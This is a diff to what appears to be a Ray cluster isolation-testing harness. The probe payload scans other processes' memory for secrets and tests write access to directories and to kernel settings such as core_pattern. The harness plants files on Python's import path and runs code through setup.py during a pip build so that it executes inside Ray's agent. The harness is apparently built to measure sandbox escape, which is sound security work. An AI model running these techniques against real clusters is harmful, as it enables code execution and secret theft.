@@ -35,7 +35,7 @@ LABEL = "ray-gpu-node"
 TIMEOUT_S = 90
 #: What runs on the node, whatever brought it there: says where it is, and tries everything. Text, since one vehicle
 #: is a file. ``targets`` hold ``files``, ``needles`` (masked, so that no process has them from here), ``tcp``, ``unix``
-#: and ``programs``, each by name.
+#: and ``programs``, each by name, and ``writable``, directories in which it tries to write.
 PROBE = """
 import glob, hashlib, os, socket
 def probe(targets):
@@ -73,11 +73,35 @@ def probe(targets):
             got.append("program " + name)
     for name in found_in_memory(others, targets.get("needles", {})):
         got.append("memory " + name)
+    if "writable" in targets:
+        got += ["write " + path for path in writable(targets["writable"])]
     return {
         "node": os.environ.get("RAY_GPU_NODE"), "uid": os.getuid(), "pid_namespace": os.readlink("/proc/self/ns/pid"),
         "net_namespace": os.readlink("/proc/self/ns/net"),
         "got": sorted(got), "refused": refused, "commands": sorted(commands.values()),
     }
+def writable(tops):
+    # Where a file can be made, without what lies below; and what of the kernel's can be opened for writing.
+    name, found = ".rogue-%d" % os.getpid(), []
+    for top in tops:
+        for place, below, files in os.walk(top):
+            below[:] = [one for one in below if (place, one) not in (("/", "proc"), ("/", "sys"))]
+            try:
+                open(place + "/" + name, "xb").close()
+                os.unlink(place + "/" + name)
+                found.append(place)
+                below.clear()
+            except OSError:
+                pass
+            if place.count("/") > 4:
+                below.clear()
+    for path in ("core_pattern", "randomize_va_space", "hostname"):
+        try:
+            os.close(os.open("/proc/sys/kernel/" + path, os.O_WRONLY))
+            found.append("/proc/sys/kernel/" + path)
+        except OSError:
+            pass
+    return found
 def holds(data, masked):
     head, length, digest = masked
     head, at = head[::-1].encode(), -1
@@ -95,8 +119,8 @@ def found_in_memory(pids, needles):
         for line in maps.splitlines():
             span, access, _, _, inode, *_ = line.split(None, 5)
             start, end = (int(part, 16) for part in span.split("-"))
-            # A secret that a process made, or was given, is in private memory of its own.
-            if access != "rw-p" or end - start > 1 << 28:
+            # A secret that a process made, or was given, is in memory that it writes; shared memory may be sparse.
+            if not access.startswith("rw") or end - start > 1 << 28:
                 continue
             try:
                 memory.seek(start)
@@ -130,7 +154,7 @@ for line in sys.stdin:
     print(json.dumps(said), flush=True)
 """
 #: Ray's agent asks for virtualenv before it has pip build anything, and copies the whole environment. Whoever can write
-#: to a node's own tmpfs gives it one that does with links; it then runs in the agent itself.
+#: where Python looks gives it one that does with links; it then runs in the agent itself.
 VIRTUALENV = """
 import os, shutil, sys, sysconfig
 from ray._private.runtime_env import virtualenv_utils
@@ -186,9 +210,11 @@ class Driver:
         build = {"pip": {"packages": [place], "pip_check": False, "pip_install_options": PIP}}
         # Whatever Ray makes of the environment afterwards, setup.py runs while it is built.
         waiting = _pinned(_read, node, runtime_env=build).remote("/dev/null")
-        report = ray.get(_pinned(_await, node).remote("/tmp/rogue/report", TIMEOUT_S), timeout=2 * TIMEOUT_S)
+        report = _pinned(_await, node).remote("/tmp/rogue/report", TIMEOUT_S)
+        if ray.wait([report, waiting], timeout=2 * TIMEOUT_S)[0] == [waiting] and not ray.wait([report], timeout=5)[0]:
+            ray.get(waiting)
         ray.cancel(waiting, force=True)
-        return json.loads(report)
+        return json.loads(ray.get(report, timeout=1))
 
     def _function_table(self, node: str, targets: dict[str, Any]) -> Any:
         honest, job, _ = self._honest_job(node)
@@ -296,8 +322,10 @@ def _taken_over(code: str, targets: dict[str, Any]) -> Callable[[], Any]:
 
 
 def _plant(files: dict[str, str]) -> None:
-    # Where Python looks before its own packages, and a cage can write.
-    first = os.environ["PYTHONPATH"].partition(":")[0]
+    # Where Python looks, if anything of that can be written.
+    first = next(
+        (path for path in [*os.environ["PYTHONPATH"].split(":"), *sys.path] if os.access(path, os.W_OK)), "/tmp"
+    )
     if os.path.exists("/tmp/rogue"):
         shutil.rmtree("/tmp/rogue")
     for name, text in files.items():
